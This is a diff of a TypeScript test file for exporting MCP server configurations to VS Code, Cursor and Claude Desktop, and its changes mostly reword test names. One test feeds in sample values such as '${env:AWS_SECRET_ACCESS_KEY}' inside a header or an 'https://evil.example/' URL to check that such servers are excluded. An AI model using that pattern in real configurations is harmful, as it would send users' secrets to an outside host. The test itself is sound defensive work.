@@ -31,8 +31,8 @@ const remote = (headers: object[] = [], fields = {}) => ({
 });
 const KEY = { name: 'API_KEY', description: 'From the portal.', isRequired: true, isSecret: true };
 
-describe('The configuration of VS Code', () => {
-  it('has servers, and inputs for what is asked', () => {
+describe('The exported configuration for VS Code', () => {
+  it('has servers, and inputs for what the user has to provide', () => {
     const level = { name: 'LEVEL', choices: ['a', 'b'], isRequired: true };
     const servers = {
       weather: local([KEY, { name: 'PLACE', isRequired: true }, level]),
@@ -63,8 +63,8 @@ describe('The configuration of VS Code', () => {
   });
 });
 
-describe('The configuration of Cursor', () => {
-  it('takes what is asked from the environment, for each server under a name of its own', () => {
+describe('The exported configuration for Cursor', () => {
+  it('reads what the user has to provide from environment variables, with separate names per server', () => {
     const servers = {
       'a-b': local([{ ...KEY, name: 'C' }]),
       a: local([{ ...KEY, name: 'B_C' }]),
@@ -80,12 +80,12 @@ describe('The configuration of Cursor', () => {
     });
   });
 
-  it('takes it from variables whose names a shell can set', () => {
+  it('uses variable names that a shell can set', () => {
     const { questions } = render('cursor', { '3d-tool': local([KEY]) });
     expect(questions.map(({ placeholder }) => placeholder)).toEqual(['${env:_3D_TOOL__API_KEY}']);
   });
 
-  it('asks twice where two names look the same, and once for one name in two places', () => {
+  it('asks twice for different names that look alike, and once for one name in two places', () => {
     const headers = [
       { ...KEY, name: 'X-Key' },
       { ...KEY, name: 'X_Key' },
@@ -109,8 +109,8 @@ describe('The configuration of Cursor', () => {
   });
 });
 
-describe('The configuration of Claude Desktop', () => {
-  it('has texts to be replaced by hand, and leaves out what a server can do without', () => {
+describe('The exported configuration for Claude Desktop', () => {
+  it('has placeholders to replace by hand, and omits optional values', () => {
     const { configuration, questions } = render('claude-desktop', {
       weather: local([KEY, { name: 'MAY', isSecret: true }]),
     });
@@ -124,13 +124,13 @@ describe('The configuration of Claude Desktop', () => {
   });
 });
 
-describe('A text in which a client would put something of its user’s', () => {
+describe('A text in which a client would insert variables of its user', () => {
   const isForeign = (client: ExportClient, document: object, config: Record<string, unknown> = {}) => {
     const launch = planLaunch(document, readConfig(config), abilitiesOf(client));
     return !('reason' in launch) && foreignVariable(client, launch)?.reason === 'client_variables';
   };
 
-  it.each(['vscode', 'cursor'] as const)('keeps the server out of the configuration of %s', (client) => {
+  it.each(['vscode', 'cursor'] as const)('excludes the server from the configuration for %s', (client) => {
     for (const text of ['${env:AWS_SECRET_ACCESS_KEY}', 'a ${command:x} b', '${input:other}', '$${env:A}', '${']) {
       expect(isForeign(client, remote([{ name: 'X', value: text }]))).toBe(true);
       expect(isForeign(client, remote([], { url: `https://evil.example/${text}` }))).toBe(true);
@@ -141,7 +141,7 @@ describe('A text in which a client would put something of its user’s', () => {
     expect(isForeign(client, remote([{ name: '${env:A}', value: 'x' }]))).toBe(true);
   });
 
-  it('is not among what a user of VS Code may pick', () => {
+  it('excludes the server if it is among the choices for a VS Code user', () => {
     const region = {
       name: 'REGION',
       value: '{r}',
@@ -151,7 +151,7 @@ describe('A text in which a client would put something of its user’s', () => {
     expect(isForeign('cursor', local([region]))).toBe(false);
   });
 
-  it('is not taken for one where nothing is put in, where it names a place, or where we put it', () => {
+  it('is allowed where the client inserts nothing, where it is a harmless path, and where we put it', () => {
     expect(isForeign('claude-desktop', local([{ name: 'X', value: '${env:A}' }]))).toBe(false);
     expect(isForeign('vscode', local(), { args: ['${workspaceFolder}/x', '${userHome}${/}y'] })).toBe(false);
     expect(isForeign('cursor', local([KEY, { name: 'X', value: '$ {a}', variables: { a: { isSecret: true } } }]))).toBe(
@@ -160,10 +160,10 @@ describe('A text in which a client would put something of its user’s', () => {
   });
 });
 
-describe.each(EXPORT_CLIENTS)('The sample catalogue as the configuration of %s', (client) => {
+describe.each(EXPORT_CLIENTS)('The sample catalogue exported for %s', (client) => {
   const documents = sample.listings.map(({ server }) => server as { name: string });
 
-  it('is what the client reads, with every question asked under its own name and nothing left open', () => {
+  it('is valid for the client, with a separate name for every question and no open placeholder', () => {
     const keys = new Set<string>();
     const servers = documents.flatMap((document) => {
       const key = entryKey(document.name, keys);
